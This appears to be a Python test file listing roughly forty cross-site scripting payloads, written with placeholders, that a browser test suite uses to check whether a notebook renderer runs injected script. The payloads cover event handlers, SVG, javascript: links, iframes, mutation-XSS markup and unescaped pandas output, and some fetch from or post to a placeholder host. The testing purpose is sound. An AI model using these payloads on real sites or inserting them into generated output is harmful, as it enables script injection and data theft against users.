"""HTML that runs script."""

# ruff: noqa: E501 - what an attack says is easier to read in one piece

from tests.browser.attacks.attack import ALL, CHARTS, SAVED, Attack, html, mime, shows

_FRAME = "&lt;script&gt;@JS@&lt;/script&gt;"

ATTACKS = (
    Attack("script", "a script element", html("<script>@JS@</script>"), SAVED),
    Attack(
        "script-nested",
        "a script element that a tag stripper puts together",
        html("<scr<script></script>ipt>@JS@</script><script>@JS@</script >"),
        SAVED,
    ),
    Attack(
        "script-module",
        "a module script",
        html('<script type="module">@JS@</script>'),
        SAVED,
    ),
    Attack(
        "script-src",
        "a script from elsewhere",
        html('<script src="@HOST@/@MARK@/a.js"></script>'),
        SAVED,
    ),
    Attack("img-onerror", "an event handler", html('<img src=x: onerror="@JS@">'), SAVED),
    Attack(
        "handler-slash",
        "a handler after a slash, in upper case, unquoted entities",
        html('<IMG/SRC="x:"/ONERROR="&#x76;ar z=1;@JS@">'),
        SAVED,
    ),
    Attack(
        "svg-onload",
        "inline SVG with onload",
        html('<svg><svg onload="@JS@"></svg></svg>'),
        SAVED,
    ),
    Attack(
        "svg-script",
        "inline SVG with a script",
        html("<svg><script>@JS@</script></svg>"),
        SAVED,
    ),
    Attack(
        "svg-animate",
        "inline SVG whose animation begins",
        html('<svg><animate onbegin="@JS@" attributeName="x" dur="1s"/></svg>'),
        SAVED,
    ),
    Attack(
        "svg-use",
        "inline SVG that uses a document in a data: address",
        html(
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
            "<image href='x:' onerror='1'/></svg>#x\"/></svg>"
        ),
    ),
    Attack(
        "svg-foreign",
        "HTML inside SVG inside HTML",
        html(
            '<svg><foreignObject><body onload="@JS@"><img src=x: onerror="@JS@"></foreignObject></svg>'
        ),
        SAVED,
    ),
    Attack(
        "details-toggle",
        "a details element that opens",
        html('<details open ontoggle="@JS@"><summary>x</summary></details>'),
        SAVED,
    ),
    Attack(
        "animation",
        "an animation that starts",
        html(
            "<style>@keyframes pwned{from{opacity:1}}</style>"
            '<p style="animation:pwned 1s 3" onanimationiteration="@JS@" onanimationstart="@JS@">x</p>'
        ),
        SAVED,
    ),
    Attack(
        "focus",
        "an element that takes the focus",
        html('<input autofocus onfocus="@JS@"><a tabindex=0 id=x onfocus="@JS@">x</a>'),
        SAVED,
    ),
    Attack("mouse", "the mouse over it", html('<p onmouseover="@JS@">x</p>'), SAVED),
    Attack(
        "content-visibility",
        "an element that becomes visible",
        html(
            '<p oncontentvisibilityautostatechange="@JS@" style="display:block;'
            'content-visibility:auto">x</p>'
        ),
        SAVED,
    ),
    Attack(
        "media-error",
        "video and audio that cannot be read",
        html('<video><source onerror="@JS@"></video><audio src=x: onerror="@JS@"></audio>'),
        SAVED,
    ),
    Attack(
        "popover",
        "a popover that opens by a click",
        html('<button popovertarget="pop">x</button><p popover id="pop" onbeforetoggle="@JS@">x'),
        SAVED,
    ),
    Attack(
        "javascript-link",
        "a link that runs script when clicked",
        html(
            '<a target=_self href="javascript:@JS@">x</a>'
            '<a target=_self href="&#9;java&#10;script:@JS@">x</a>'
        ),
        SAVED,
    ),
    Attack(
        "form-action",
        "a form that runs script when sent",
        html('<form action="javascript:@JS@"><input type=submit></form>'),
        SAVED,
    ),
    Attack(
        "formaction",
        "a button that runs script when clicked",
        html('<form action="x:"><button formaction="javascript:@JS@">x</button></form>'),
        SAVED,
    ),
    Attack(
        "form-sent",
        "a form that sends itself",
        html(
            '<form id=pwned-form action="@HOST@/@MARK@/form" method=post></form>'
            "<script>document.getElementById('pwned-form').submit()</script>"
        ),
        SAVED,
        group=CHARTS,
    ),
    Attack(
        "iframe-srcdoc",
        "a frame of the page's own origin",
        html(f'<iframe srcdoc="{_FRAME}"></iframe>'),
        SAVED,
    ),
    Attack(
        "iframe-sandbox",
        "a frame whose sandbox is none",
        html(f'<iframe sandbox="allow-scripts allow-same-origin" srcdoc="{_FRAME}"></iframe>'),
        SAVED,
    ),
    Attack(
        "iframe-javascript",
        "a frame that runs script as its address",
        html('<iframe src="javascript:@JS@"></iframe>'),
        SAVED,
    ),
    Attack(
        "iframe-data",
        "a frame with a document in its address",
        html(
            "<iframe src=\"data:text/html,<script>fetch('@HOST@/@MARK@/data')</script>\"></iframe>"
        ),
        SAVED,
    ),
    Attack(
        "object-data",
        "an object and an embedded document",
        html('<object data="@HOST@/@MARK@/object"></object><embed src="@HOST@/@MARK@/embed">'),
        SAVED,
    ),
    Attack(
        "template",
        "a declarative shadow root",
        html('<div><template shadowrootmode="open"><img src=x: onerror="@JS@"></template></div>'),
    ),
    Attack(
        "mutation",
        "markup that another parser reads otherwise",
        html(
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: '
            'onerror=&quot;@JS@&quot;&gt;">'
            '<svg></p><style><a id="</style><img src=x: onerror=&quot;@JS@&quot;>">'
            '<noscript><p title="</noscript><img src=x: onerror=&quot;@JS@&quot;>">'
        ),
    ),
    Attack(
        "mutation-title",
        "the same, with a title, a text area and a comment",
        html(
            '<title><img title="</title><img src=x: onerror=&quot;@JS@&quot;>"></title>'
            '<!--><img src=x: onerror="@JS@">--><textarea></textarea><img src=x: onerror="@JS@">'
        ),
        SAVED,
    ),
    Attack(
        "repr-html",
        "_repr_html_ of an object",
        "class Table:\n    def _repr_html_(self):\n"
        "        return '''<img src=x: onerror=\"@JS@\">'''\nTable()",
        SAVED,
    ),
    Attack(
        "pandas-cell",
        "a table whose cells are not escaped",
        "import pandas\nfrom IPython.display import HTML\n"
        "HTML(pandas.DataFrame({'a': ['''<img src=x: onerror=\"@JS@\">''']}).to_html(escape=False))",
        SAVED,
    ),
    Attack(
        "styler",
        "a pandas Styler with HTML in its cells and a style sheet that loads",
        "import pandas\npandas.DataFrame({'a': [1]}).style"
        ".format(lambda _: '''<img src=x: onerror=\"@JS@\">''')"
        ".set_table_styles([{'selector': 'td', 'props': "
        "[('background', 'url(@HOST@/@MARK@/styler)')]}])",
        SAVED,
    ),
    Attack(
        "isolated",
        "metadata that has the output put into a frame of the page's own origin",
        shows({"text/html": "<script>@JS@</script>"}, {"isolated": True}),
        SAVED,
    ),
    Attack(
        "isolated-type",
        "the same metadata for one MIME type",
        shows({"text/html": "<script>@JS@</script>"}, {"text/html": {"isolated": True}}),
        SAVED,
    ),
    *(
        Attack(
            f"javascript-{number}",
            f"JavaScript as {kind}",
            mime(kind, "@JS@"),
            SAVED if number < 2 else frozenset(),
        )
        for number, kind in enumerate(
            (
                "application/javascript",
                "text/javascript",
                "application/x-javascript",
                "application/ecmascript",
                "text/ecmascript",
                "Application/JavaScript",
                "application/javascript;version=1",
            )
        )
    ),
    Attack(
        "svg-type",
        "script in SVG as a picture",
        mime(
            "image/svg+xml",
            "<svg xmlns='http://www.w3.org/2000/svg' onload=\"@JS@\"><script>@JS@</script><image href='@HOST@/@MARK@/svg'/></svg>",
        ),
        frozenset(),
    ),
    Attack(
        "markdown-html",
        "HTML in markdown",
        mime("text/markdown", '<img src=x: onerror="@JS@"> <script>@JS@</script>'),
        SAVED,
    ),
    Attack(
        "markdown-link",
        "a markdown link that runs script",
        mime("text/markdown", '[x](javascript:alert`1`) <a href="javascript:@JS@">x</a>'),
    ),
    Attack(
        "markdown-mermaid",
        "a diagram in markdown",
        mime(
            "text/markdown",
            "```mermaid\nflowchart TD\n A[\"<img src='@HOST@/@MARK@/mermaid'>\"] --> B\n"
            ' click A href "javascript:1" "@HOST@/@MARK@/mermaid-click"\n```',
        ),
        ALL,
    ),
)
